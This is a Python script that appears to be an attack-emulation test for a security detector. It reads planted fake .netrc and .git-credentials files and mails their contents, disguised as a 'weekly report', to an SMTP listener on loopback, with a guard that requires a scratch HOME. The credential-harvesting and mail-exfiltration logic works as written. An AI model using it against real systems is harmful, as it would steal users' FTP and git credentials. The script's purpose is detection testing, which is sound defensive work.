# technique: T1552.001 T1048.003
"""Unsecured Credentials: Credentials In Files (T1552.001): .netrc (parsed
with the netrc module) and .git-credentials, mailed out with smtplib to an
SMTP listener this script runs on loopback (Exfiltration Over Unencrypted
Non-C2 Protocol, T1048.003).

The SMTP peer is a few lines of socket code in a thread (HELO/MAIL/RCPT/
DATA/QUIT answered with canned replies), so the client side is the real
smtplib conversation.

A good detector raises a high alert: a program reads .netrc /
.git-credentials and then sends mail (a connection speaking SMTP).
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import netrc
import os
import smtplib
import socket
import threading
from email.message import EmailMessage

home = os.path.expanduser("~")
with open(os.path.join(home, ".netrc"), "w") as f:
    f.write("machine ftp.example.org login deploy password s3cr3t-fake\n")
os.chmod(os.path.join(home, ".netrc"), 0o600)
with open(os.path.join(home, ".git-credentials"), "w") as f:
    f.write("https://bot:ghp_fakefakefakefakefakefakefake@github.example\n")

srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)


def smtpd():
    conn, _ = srv.accept()
    f = conn.makefile("rwb")
    f.write(b"220 mail ESMTP\r\n"); f.flush()
    in_data = False
    for line in f:
        if in_data:
            if line == b".\r\n":
                in_data = False
                f.write(b"250 queued\r\n")
        elif line[:4].upper() == b"DATA":
            in_data = True
            f.write(b"354 go\r\n")
        elif line[:4].upper() == b"QUIT":
            f.write(b"221 bye\r\n"); f.flush()
            break
        else:
            f.write(b"250 ok\r\n")
        f.flush()
    conn.close()


th = threading.Thread(target=smtpd, daemon=True)
th.start()
creds = netrc.netrc(os.path.join(home, ".netrc"))
body = "\n".join(f"{h} {a[0]} {a[2]}" for h, a in creds.hosts.items())
with open(os.path.join(home, ".git-credentials")) as f:
    body += "\n" + f.read()
msg = EmailMessage()
msg["From"] = "report@localhost"
msg["To"] = "drop@localhost"
msg["Subject"] = "weekly report"
msg.set_content(body)
with smtplib.SMTP(*srv.getsockname(), timeout=5) as s:
    s.send_message(msg)
th.join(5)
srv.close()
